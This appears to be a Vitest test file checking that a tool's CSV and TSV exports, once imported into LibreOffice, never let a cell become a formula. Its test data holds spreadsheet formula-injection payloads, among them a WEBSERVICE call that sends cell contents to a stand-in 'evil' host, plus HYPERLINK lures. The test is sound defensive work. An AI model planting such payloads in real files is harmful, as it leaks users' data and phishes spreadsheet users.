// juno's CSV and TSV opened by a real spreadsheet: LibreOffice imports them (as `soffice --convert-to` does, with
// its text-import filter) and no cell from a timeline becomes a formula, whatever quotes, spaces or invisible
// characters come before the `=`. Files written by hand under the same import options show that LibreOffice
// would run a formula if juno let one through.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hasProgram } from '../external.js';
import { runJuno } from '../helpers.js';

const HAS_SOFFICE = hasProgram('soffice', ['--version']);

/** Before the formula: quotes of a quoted field, spaces, controls and invisible characters, alone and mixed. */
const LEADS = [
  '',
  ' ',
  '  ',
  '"',
  "'",
  '""',
  '" ',
  ' "',
  '"""',
  "''",
  `"'`,
  '\u00a0',
  '\u3000',
  '＂',
  '\t',
  '\r',
  '\r\n',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u2060',
  '\u2066',
  '"\u200b',
];
const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const BODIES = [
  '1+1',
  'SUM(1;2)',
  'HYPERLINK("https://evil/";"click")',
  'WEBSERVICE("https://evil/")',
  'A1',
  '5',
];
const ENDS = ['', '"'];
/** The names reported to run in LibreOffice from juno's TSV, and a few more shapes of quoting. */
const NAMED = [
  '"=WEBSERVICE(""https://evil/""&C2)"',
  '"=HYPERLINK(""https://evil/"",""click"")"',
  '"a"=1+1',
  '"" =1+1',
  '"unbalanced',
  'closing" =2+2',
];

const NAMES = [
  ...NAMED,
  ...LEADS.flatMap((lead) =>
    STARTS.flatMap((start) => BODIES.flatMap((body) => ENDS.map((end) => lead + start + body + end))),
  ),
];

/** Field separators for LibreOffice's CSV filter, as character codes. */
const SEPARATOR = { csv: 44, tsv: 9 } as const;

/**
 * Import options: separator, quote ("), UTF-8, from line 1, then (from the 7th) quoted fields as text, detect
 * special numbers, two export-only tokens, trim spaces, a sheet token, evaluate formulas.
 */
const OPTION_SETS = {
  'default options': '',
  'special numbers on, formulas evaluated': ',,,false,true,false,false,false,0,true',
  'quoted fields as text, spaces trimmed': ',,,true,true,false,false,true,0,true',
} as const;

interface Cell {
  type: string | null;
  formula: string | null;
  text: string;
}

const unescapeXml = (text: string) =>
  text
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, '&');

/** The rows of the first sheet of a flat ODS file, each cell with its value type, formula and text. */
function readFods(xml: string): Cell[][] {
  const table = xml.slice(xml.indexOf('<table:table '), xml.indexOf('</table:table>'));
  return [...table.matchAll(/<table:table-row[^>]*>([\s\S]*?)<\/table:table-row>/g)].map((row) => {
    const cells: Cell[] = [];
    const cellPattern = /<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g;
    for (const [, attributes = '', body = ''] of (row[1] ?? '').matchAll(cellPattern)) {
      const repeated = Number(/table:number-columns-repeated="(\d+)"/.exec(attributes)?.[1] ?? 1);
      const formula = /table:formula="([^"]*)"/.exec(attributes)?.[1];
      const cell: Cell = {
        type: /office:value-type="([^"]*)"/.exec(attributes)?.[1] ?? null,
        formula: formula === undefined ? null : unescapeXml(formula),
        text: unescapeXml(
          [...body.matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)]
            .map(([, p = '']) =>
              p
                .replace(/<text:s\/>/g, ' ')
                .replace(/<text:s text:c="(\d+)"\/>/g, (_, n: string) => ' '.repeat(Number(n)))
                .replace(/<[^>]+>/g, ''),
            )
            .join('\n'),
        ),
      };
      for (let i = 0; i < Math.min(repeated, 50); i++) cells.push(cell);
    }
    return cells;
  });
}

describe.skipIf(!HAS_SOFFICE)('LibreOffice opens the CSV and TSV', () => {
  let dir: string;
  let profile: string;
  const sheets = new Map<string, Cell[][]>();

  /** Imports `file` as LibreOffice's text import would, and returns its cells. */
  function importSheet(file: string, format: 'csv' | 'tsv', options: string): Cell[][] {
    // The file is copied under a .csv name so that the explicit text filter is the one used.
    const out = join(dir, `out-${sheets.size}`);
    const input = join(dir, `in-${sheets.size}.csv`);
    writeFileSync(input, readFileSync(file));
    const result = spawnSync(
      'soffice',
      [
        `-env:UserInstallation=${pathToFileURL(profile).href}`,
        '--headless',
        `--infilter=CSV:${SEPARATOR[format]},34,76,1${options}`,
        '--convert-to',
        'fods',
        '--outdir',
        out,
        input,
      ],
      { encoding: 'utf8', timeout: 180_000 },
    );
    if (result.status !== 0) throw new Error(`soffice failed: ${result.stderr}`);
    return readFods(readFileSync(join(out, `in-${sheets.size}.fods`), 'utf8'));
  }

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'juno-spreadsheet-'));
    profile = join(dir, 'profile');
    const events = NAMES.map((name, i) => ({
      id: `e${i}`,
      name,
      kind: 'other',
      start: '2014-09-04',
      location: i === 0 ? '-5' : name,
      project: name,
    }));
    writeFileSync(join(dir, 'hostile.json'), JSON.stringify({ series: 'x', events }));
    for (const format of ['csv', 'tsv'] as const) {
      const run = await runJuno(
        ['schedule', '--timeline', join(dir, 'hostile.json'), '--format', format, '--date', '2014-09-21'],
        { cwd: dir },
      );
      expect(run.stderr).toBe('');
      writeFileSync(join(dir, `juno.${format}`), run.stdout);
    }
    // The same dangerous names, unprefixed, in files juno did not write.
    writeFileSync(join(dir, 'raw.tsv'), `${NAMED.slice(0, 2).join('\t')}\t=1+1\n`);
    writeFileSync(join(dir, 'raw.csv'), '=1+1,"=HYPERLINK(""https://evil/"",""click"")"\r\n');
    for (const [label, options] of Object.entries(OPTION_SETS)) {
      for (const format of ['csv', 'tsv'] as const) {
        sheets.set(`${format} ${label}`, importSheet(join(dir, `juno.${format}`), format, options));
        sheets.set(`raw ${format} ${label}`, importSheet(join(dir, `raw.${format}`), format, options));
      }
    }
  }, 600_000);
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const cases = Object.keys(OPTION_SETS).flatMap((label) => [
    ['csv', label],
    ['tsv', label],
  ]);

  it.for(cases)(
    '%s with %s: LibreOffice would run a formula in a file juno did not write',
    ([format, label]) => {
      const raw = sheets.get(`raw ${format} ${label}`) ?? [];
      const formulas = raw.flat().filter((c) => c.formula !== null);
      expect(formulas.length).toBeGreaterThan(0);
    },
  );

  it.for(cases)('%s with %s: no cell from juno becomes a formula', ([format, label]) => {
    const rows = sheets.get(`${format} ${label}`) ?? [];
    // The header and one row per event: no row was split or merged by quotes.
    expect(rows).toHaveLength(NAMES.length + 1);
    expect(rows.flat().filter((c) => c.formula !== null)).toEqual([]);
    const header = rows[0]?.map((c) => c.text) ?? [];
    expect(header.slice(0, 3)).toEqual(['id', 'name', 'kind']);
    const at = (row: number, column: string) => rows[row]?.[header.indexOf(column)];
    // The reported name reads as the text juno wrote, its neutralising quote in front.
    expect(at(1, 'name')).toMatchObject({ type: 'string', text: `'${NAMED[0]}` });
    // A plain number is still a number, and so is daysUntil.
    expect(at(1, 'location')).toMatchObject({ type: 'float', text: '-5' });
    expect(at(1, 'daysUntil')).toMatchObject({ type: 'float', text: '-17' });
  });
});
